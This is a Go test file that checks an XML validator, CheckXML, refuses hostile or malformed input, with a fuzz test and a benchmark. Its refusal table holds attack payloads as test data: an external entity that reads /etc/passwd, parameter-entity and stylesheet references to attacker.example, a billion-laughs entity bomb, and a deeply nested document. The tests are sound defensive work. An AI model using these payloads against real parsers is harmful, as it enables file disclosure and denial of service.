package policyguard

import (
	"bytes"
	"encoding/xml"
	"errors"
	"strings"
	"testing"
)

const xmlCheckSOAPNS = "http://schemas.xmlsoap.org/soap/envelope/"

// xmlCheckSOAP is a PolicyServer-style SOAP 1.1 request.
const xmlCheckSOAP = `<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <soap:Body>
    <Heartbeat xmlns="http://tempuri.org/">
      <DeviceID>3F2504E0-4F89-11D3-9A0C-0305E82C3301</DeviceID>
      <Payload>q83vASNFZ4mrze8BI0VniQ==</Payload>
      <Note><![CDATA[a < b & c]]></Note><!-- comment -->
    </Heartbeat>
  </soap:Body>
</soap:Envelope>
`

func TestCheckXMLRefusesEachKindWithItsReason(t *testing.T) {
	limits := XMLLimits{MaxBytes: 64 << 10, MaxDepth: 32, MaxElements: 100}
	tests := []struct {
		name   string
		doc    string
		reason string
	}{
		{"empty", ``, ReasonMalformedXML},
		{"not XML", `hello`, ReasonMalformedXML},
		{"unclosed root", `<a><b></b>`, ReasonMalformedXML},
		{"mismatched end tag", `<a><b></a></b>`, ReasonMalformedXML},
		{"two roots", `<a/><b/>`, ReasonMalformedXML},
		{"text after root", `<a/>trailing`, ReasonMalformedXML},
		{"bad attribute", `<a b=1/>`, ReasonMalformedXML},
		{"undefined entity", `<a>&ext;</a>`, ReasonMalformedXML},
		{"invalid character", "<a>\x00</a>", ReasonMalformedXML},
		{"invalid UTF-8", "<a>\xff\xfe</a>", ReasonMalformedXML},
		{"UTF-16 declared", `<?xml version="1.0" encoding="utf-16"?><a/>`, ReasonMalformedXML},
		{"XML 1.1", `<?xml version="1.1"?><a/>`, ReasonMalformedXML},
		{"late declaration", ` <?xml version="1.0"?><a/>`, ReasonMalformedXML},
		{"DOCTYPE", `<!DOCTYPE a><a/>`, ReasonDoctype},
		{"billion laughs", xmlCheckLaughs, ReasonDoctype},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, ReasonDoctype},
		{"parameter entity", `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><a/>`, ReasonDoctype},
		{"entity declaration inside root", `<a><!ENTITY x "y"></a>`, ReasonDoctype},
		{"stylesheet instruction", `<?xml-stylesheet href="http://attacker.example/x.xsl"?><a/>`, ReasonProcessingInstruction},
		{"instruction in body", `<a><?php echo 1; ?></a>`, ReasonProcessingInstruction},
		{"depth 5000", strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000), ReasonTooDeep},
		{"depth 5000 unclosed", strings.Repeat("<a>", 5000), ReasonTooDeep},
		{"too many elements", "<a>" + strings.Repeat("<b/>", 100) + "</a>", ReasonTooManyElements},
		{"oversize", "<a>" + strings.Repeat("x", 64<<10) + "</a>", ReasonTooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root, err := CheckXML([]byte(tt.doc), limits)
			if err == nil {
				t.Fatalf("CheckXML accepted the document (root %v)", root)
			}
			var ve *VerifyError
			if !errors.As(err, &ve) {
				t.Fatalf("error %v is not a *VerifyError", err)
			}
			if ve.Reason != tt.reason {
				t.Fatalf("reason %q, want %q (%v)", ve.Reason, tt.reason, err)
			}
			if root != (xml.Name{}) {
				t.Fatalf("root %v returned with an error", root)
			}
		})
	}
}

// xmlCheckLaughs expands to 10^9 "lol"s in a parser that honours entities.
var xmlCheckLaughs = func() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`)
	prev := "lol"
	for i := 1; i <= 9; i++ {
		name := "lol" + string(rune('0'+i))
		b.WriteString(`<!ENTITY ` + name + ` "` + strings.Repeat("&"+prev+";", 10) + `">`)
		prev = name
	}
	b.WriteString(`]><lolz>&` + prev + `;</lolz>`)
	return b.String()
}()

func TestCheckXMLAcceptsAndNamesTheRoot(t *testing.T) {
	tests := []struct {
		name string
		doc  string
		root xml.Name
	}{
		{"SOAP 1.1 request", xmlCheckSOAP, xml.Name{Space: xmlCheckSOAPNS, Local: "Envelope"}},
		{"no declaration", `<Index><Profile Checksum="1"/></Index>`, xml.Name{Local: "Index"}},
		{"byte order mark", "\xef\xbb\xbf<a/>", xml.Name{Local: "a"}},
		{"default namespace", `<a xmlns="urn:x"><b/></a>`, xml.Name{Space: "urn:x", Local: "a"}},
		{"predefined and character entities", `<a t="&lt;&#65;">&amp;&gt;&quot;&apos;&#x42;</a>`, xml.Name{Local: "a"}},
		{"comment and whitespace around root", "<!-- c -->\n<a/>\n<!-- d -->\n", xml.Name{Local: "a"}},
		{"depth at the limit", strings.Repeat("<a>", 32) + strings.Repeat("</a>", 32), xml.Name{Local: "a"}},
		{"elements at the limit", "<a>" + strings.Repeat("<b/>", 99) + "</a>", xml.Name{Local: "a"}},
	}
	limits := XMLLimits{MaxBytes: 64 << 10, MaxDepth: 32, MaxElements: 100}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root, err := CheckXML([]byte(tt.doc), limits)
			if err != nil {
				t.Fatalf("CheckXML refused a valid document: %v", err)
			}
			if root != tt.root {
				t.Fatalf("root %v, want %v", root, tt.root)
			}
		})
	}
}

func TestCheckXMLZeroLimitsTakeTheDefaults(t *testing.T) {
	deep := strings.Repeat("<a>", DefaultXMLMaxDepth+1) + strings.Repeat("</a>", DefaultXMLMaxDepth+1)
	if _, err := CheckXML([]byte(deep), XMLLimits{}); Reason(err) != ReasonTooDeep {
		t.Fatalf("depth %d with default limits: %v, want %s", DefaultXMLMaxDepth+1, err, ReasonTooDeep)
	}
	big := "<a>" + strings.Repeat("x", DefaultXMLMaxBytes) + "</a>"
	if _, err := CheckXML([]byte(big), XMLLimits{}); Reason(err) != ReasonTooLarge {
		t.Fatalf("%d bytes with default limits: %v, want %s", len(big), err, ReasonTooLarge)
	}
	many := "<a>" + strings.Repeat("<b/>", DefaultXMLMaxElements) + "</a>"
	if _, err := CheckXML([]byte(many), XMLLimits{}); Reason(err) != ReasonTooManyElements {
		t.Fatalf("%d elements with default limits: %v, want %s", DefaultXMLMaxElements+1, err, ReasonTooManyElements)
	}
	if _, err := CheckXML([]byte(xmlCheckSOAP), XMLLimits{}); err != nil {
		t.Fatalf("SOAP with default limits: %v", err)
	}
}

func TestCheckXMLDeepDocumentIsRefusedWithoutAllocating(t *testing.T) {
	deep := []byte(strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000))
	allocs := testing.AllocsPerRun(10, func() {
		if _, err := CheckXML(deep, XMLLimits{MaxDepth: 64}); Reason(err) != ReasonTooDeep {
			t.Fatalf("want %s, got %v", ReasonTooDeep, err)
		}
	})
	// The refusal's error value and message are the only allocations.
	if allocs > 5 {
		t.Fatalf("refusing a 5000-deep document made %.0f allocations", allocs)
	}
}

func FuzzCheckXML(f *testing.F) {
	for _, seed := range []string{
		xmlCheckSOAP,
		xmlCheckLaughs,
		`<a><b></a></b>`,
		`<?xml-stylesheet href="x"?><a/>`,
		strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100),
		`<a xmlns:p="urn:p"><p:b c="&amp;"/><![CDATA[]]></a>`,
	} {
		f.Add([]byte(seed))
	}
	limits := XMLLimits{MaxBytes: 1 << 16, MaxDepth: 16, MaxElements: 256}
	f.Fuzz(func(t *testing.T, doc []byte) {
		root, err := CheckXML(doc, limits)
		if err != nil {
			if Reason(err) == "" {
				t.Fatalf("error is not a *VerifyError: %v", err)
			}
			return
		}
		if root.Local == "" {
			t.Fatal("accepted a document without naming its root")
		}
		if bytes.Contains(doc, []byte("<!DOCTYPE")) && !bytes.Contains(doc, []byte("<!--")) && !bytes.Contains(doc, []byte("CDATA")) {
			t.Fatal("accepted a DOCTYPE")
		}
		// Whatever CheckXML accepts, a strict parser reads to the end.
		d := xml.NewDecoder(bytes.NewReader(doc))
		d.Strict = true
		for {
			_, err := d.Token()
			if err != nil {
				if err.Error() != "EOF" {
					t.Fatalf("accepted a document the decoder refuses: %v", err)
				}
				return
			}
		}
	})
}

// BenchmarkCheckXML compares CheckXML with a bare strict token pass over the
// same SOAP request.
func BenchmarkCheckXML(b *testing.B) {
	doc := []byte(xmlCheckSOAP)
	b.Run("bare_decoder", func(b *testing.B) {
		b.ReportAllocs()
		b.SetBytes(int64(len(doc)))
		for b.Loop() {
			d := xml.NewDecoder(bytes.NewReader(doc))
			d.Strict = true
			for {
				if _, err := d.Token(); err != nil {
					break
				}
			}
		}
	})
	b.Run("CheckXML", func(b *testing.B) {
		b.ReportAllocs()
		b.SetBytes(int64(len(doc)))
		for b.Loop() {
			if _, err := CheckXML(doc, XMLLimits{}); err != nil {
				b.Fatal(err)
			}
		}
	})
}
